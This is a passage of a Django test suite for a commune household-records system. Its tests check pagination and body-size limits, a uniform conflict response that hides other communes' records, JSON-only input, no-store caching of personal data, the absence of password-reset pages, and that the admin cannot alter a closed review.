    return Client(HTTP_AUTHORIZATION=f"Bearer {key}")


@pytest.mark.django_db
def test_absurd_pages_and_big_bodies_are_refused_plainly(api_user):
    for page in ("99999999999999999999", "650782639644925312", "2"):
        response = api_user.get("/api/households", {"page": page})
        assert response.status_code == 400 and "Không có trang" in response.json()["detail"]
    big = json.dumps({"code": "26131-2", "notes": "x" * (6 * 1024 * 1024)})
    response = api_user.post("/api/households", big, "application/json")
    assert response.status_code == 413 and "MB" in response.json()["detail"]


NEW = {"commune": "26131", "area": "rural", "members": [{
    "position": 1, "full_name": "Điểu Thị Mai", "relation": "head",
    "birth_date": "1990-04-12", "sex": "female"}]}


@pytest.mark.django_db
def test_a_conflict_reveals_nothing_of_another_commune(api_user):
    mine = api_user.post("/api/households", {**NEW, "code": "26131-1"}, "application/json")
    assert mine.status_code == 409  # a code of one's own commune
    theirs = api_user.post("/api/households", {**NEW, "code": "26119-1"}, "application/json")
    nobody = api_user.post("/api/households", {**NEW, "code": "26119-999"}, "application/json")
    assert theirs.status_code == nobody.status_code == 400  # exists or not: the same answer
    assert theirs.json() == nobody.json() and "26131-" in theirs.json()["detail"]
    assert not Household.objects.filter(code="26119-999").exists()


@pytest.mark.django_db
def test_json_is_accepted_only_as_json(api_user):
    body = json.dumps({**NEW, "code": "26131-7"})
    for kind in ("text/plain", "application/x-www-form-urlencoded"):
        assert api_user.post("/api/households", body, kind).status_code == 415
    assert not Household.objects.filter(code="26131-7").exists()
    assert api_user.post("/api/households", body, "application/json").status_code == 201


@pytest.mark.django_db
def test_an_api_put_keeps_the_dates_members_left_on(api_user):
    household = Household.objects.get(code="26131-1")
    gone = Member.objects.create(household=household, position=2, full_name="Đã chuyển đi",
                                 relation="child", birth_date=dt.date(2000, 1, 1),
                                 sex="female", left_on=dt.date(2024, 5, 1))
    data = api_user.get("/api/households/26131-1").json()
    response = api_user.put("/api/households/26131-1", json.dumps(data), "application/json")
    assert response.status_code == 200, response.content
    gone.refresh_from_db()
    assert gone.left_on == dt.date(2024, 5, 1)


@pytest.mark.django_db
def test_pages_with_personal_data_are_not_kept_by_browsers(area, client, api_user):
    client.force_login(area[2])
    for url in (reverse("households:list"), reverse("households:detail", args=["TL-1"]),
                reverse("exchange:export")):
        assert "no-store" in client.get(url)["Cache-Control"], url
    assert "no-store" in api_user.get("/api/households")["Cache-Control"]


@pytest.mark.django_db
def test_no_password_reset_page_promises_an_email(client):
    for url in ("/accounts/password_reset/", "/accounts/reset/MQ/set-password/"):
        assert client.get(url).status_code == 404
    page = client.get(reverse("login")).content.decode()
    assert "quản trị viên của đơn vị đặt mật khẩu mới" in page


# --- issue 15: the admin and closed reviews ---------------------------------------------------

@pytest.mark.django_db
def test_the_admin_cannot_change_what_a_closed_review_decided(people, admin_client):
    _users, review = people
    entry = review.entries.first()
    certificate = review.certificates.first()
    for model, obj in (("reviewentry", entry), ("decision", review.decision),
                       ("certificate", certificate), ("review", review)):
        change = reverse(f"admin:reviews_{model}_change", args=[obj.pk])
        page = admin_client.get(change)
        assert page.status_code == 200 and 'name="_save"' not in page.content.decode(), model
        assert admin_client.post(change, {}).status_code == 403, model
        delete = reverse(f"admin:reviews_{model}_delete", args=[obj.pk])
        assert admin_client.post(delete, {"post": "yes"}).status_code == 403, model
    assert Review.objects.get(pk=review.pk).step == Step.CLOSED
    open_review = run_review(review.commune, None, _users["mixed"], 2026,
                             [entry.household], until=Step.LISTING)
    change = reverse("admin:reviews_reviewentry_change",
                     args=[open_review.entries.first().pk])
    assert 'name="_save"' in admin_client.get(change).content.decode()
